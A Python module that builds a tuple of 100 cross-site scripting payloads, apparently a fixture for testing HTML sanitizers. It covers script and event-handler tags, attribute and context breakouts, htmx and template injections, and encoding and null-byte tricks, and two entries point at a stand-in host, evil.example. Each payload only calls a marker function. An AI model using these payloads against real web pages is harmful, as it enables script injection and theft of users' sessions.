"""A hundred texts that become script where a page forgets what they are; each would call `ran(NUMBER)`."""

from __future__ import annotations

_TAGS = (
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script\n>{0}</script >", "<svg><script>{0}</script></svg>",
    "<img src=x onerror={0}>", "<img src=x:x onerror={0}//", "<IMG SRC=/ OnErRoR={0}>", "<img/src=x/onerror={0}>",
    "<svg onload={0}>", "<svg/onload={0}>", "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set onbegin={0} attributeName=x>", "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<body onload={0}>", "<body onpageshow={0}>", "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<iframe src=javascript:{0}></iframe>", "<iframe onload={0}></iframe>", "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>", "<input autofocus onfocus={0}>", "<select autofocus onfocus={0}></select>",
    "<textarea autofocus onfocus={0}></textarea>", "<details open ontoggle={0}>x</details>",
    "<video><source onerror={0}></video>", "<audio src=x onerror={0}></audio>", "<video src=x onerror={0}></video>",
    "<marquee onstart={0}>x</marquee>", "<style onload={0}></style>", "<link rel=stylesheet href=x onerror={0}>",
    "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={0}></b>",
    "<form><button autofocus onfocus={0} formaction=javascript:{0}>x</button></form>",
    "<a href=javascript:{0} autofocus onfocus={0}>x</a>", "<base href=javascript:/{0}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<div hx-on::load='{0}'>x</div>",
    "<div hx-get=/logout hx-trigger='load[{0}]'>x</div>", "<div hx-vals='js:{{a:{0}}}' hx-get=/ hx-trigger=load></div>",
    "<div sse-connect=//evil.example hx-ext=sse></div>", "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>", "<!--><img src=x onerror={0}>-->",
    "<![CDATA[><img src=x onerror={0}>]]>", "<?xml ?><img src=x onerror={0}>", "<xmp><img src=x onerror={0}></xmp>",
    "<dialog open><img src=x onerror={0}></dialog>", "<img src=x onerror=&#114;an({1})>",
    "<img src=x onerror=\\u0072an({1})>", "<img src=x onerror='window[\"r\"+\"an\"]({1})'>", "<<script>{0}//<</script>",
)  # fmt: skip
_OUT_OF = (
    '"><img src=x onerror={0}>', "'><img src=x onerror={0}>", "`><img src=x onerror={0}>",
    "</title><script>{0}</script>", "</textarea><script>{0}</script>",
    "</pre></code><img src=x onerror={0}>", "</td></table><svg onload={0}>",
    "</option></select><img src=x onerror={0}>", "--><script>{0}</script>", "]]></script><script>{0}</script>",
    "</style><img src=x onerror={0}>", "</svg><img src=x onerror={0}>", "</noscript><svg onload={0}>",
    "</main></body><script>{0}</script>", '" autofocus onfocus="{0}', "' autofocus onfocus='{0}",
    '" onmouseover="{0}" style="position:fixed;inset:0', "x onfocus={0} autofocus tabindex=1",
    '" accesskey="x" onclick="{0}',
    '"/><script>{0}</script>', "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "\x01javascript:{0}",
    "data:text/html,<script>opener.{0}</script>", "//evil.example/{1}", "{{{{{0}}}}}", "{{% raw %}}{0}{{% endraw %}}",
    "${{{0}}}", "#{{{0}}}", "<%= {0} %>", "{{{{''.__class__.__mro__}}}}<img src=x onerror={0}>",
    "\x00<script>{0}</script>", "<scr\x00ipt>{0}</script>", "\u2028<script>{0}</script>", "\u202e<script>{0}</script>",
    "\ufeff<svg onload={0}>", "%3Cscript%3E{0}%3C/script%3E", "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;img src=x onerror={0}&#62;", "\\x3cscript\\x3e{0}\\x3c/script\\x3e", "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e", "data: x\n\ndata: <script>{0}</script>\n\n",
    "\r\n\r\n<script>{0}</script>",
    "'; {0}; //", "*/ {0} /*", "</script><script>{0}", "<img src=x onerror={0} ", "-{0}-",
)  # fmt: skip
PAYLOADS = tuple(one.format(f"ran({number})", number) for number, one in enumerate(_TAGS + _OUT_OF))
assert len(PAYLOADS) == 100
